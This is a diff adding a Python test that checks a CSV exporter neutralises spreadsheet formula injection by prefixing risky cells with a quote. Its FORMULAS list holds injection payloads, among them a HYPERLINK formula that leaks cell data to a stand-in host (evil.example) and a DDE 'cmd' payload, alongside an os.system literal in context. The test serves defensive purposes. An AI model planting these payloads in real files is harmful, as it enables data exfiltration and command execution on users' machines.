@@ -103,3 +103,43 @@ def test_prompt_literals_are_parsed_without_evaluating_code() -> None:
     assert prompt_of("[__import__('os').system('true')]") == "[__import__('os').system('true')]"
     assert prompt_of(["x", None, "y"]) == "x\ny"
     assert json.dumps(prompt_of(None)) == '""'
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",  # already quoted once: still one more, so reading strips exactly one
+    "''-x",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    """Before: a prompt (or request id, or model name) a client chose was written to the CSV as
+    sent, and ``=HYPERLINK(...)`` ran as a formula when the export was opened in a spreadsheet.
+    Now such a cell starts with ``'``; JSON lines keep the text exactly, and reading the CSV
+    back gives the text that was written."""
+    rows = [
+        {"prompt": f, "deployment": "a/b", "score": -0.5, "request_id": f, "model": f}
+        for f in FORMULAS
+    ]
+    rows.append({"prompt": "plain 'quoted' text", "deployment": "a/b", "score": 1.0})
+    write_rows(tmp_path / "rows.csv", rows)
+    with (tmp_path / "rows.csv").open(newline="", encoding="utf-8") as f:
+        cells = list(csv.DictReader(f))
+    for cell, text in zip(cells, FORMULAS, strict=False):
+        for column in ("prompt", "request_id", "model"):
+            assert cell[column] == "'" + text
+        assert cell["score"] == "-0.5"  # a number is not text: left as it is
+    assert cells[-1]["prompt"] == "plain 'quoted' text"
+    back = read_rows(tmp_path / "rows.csv")
+    assert [r["prompt"] for r in back][:6] == [f.strip() for f in FORMULAS[:6]]  # CSV: trimmed
+    assert [r["prompt"] for r in back][6:] == [*FORMULAS[6:], "plain 'quoted' text"]
+    write_rows(tmp_path / "rows.jsonl", rows)
+    assert [r["prompt"] for r in read_rows(tmp_path / "rows.jsonl")] == [
+        *FORMULAS,
+        "plain 'quoted' text",
+    ]
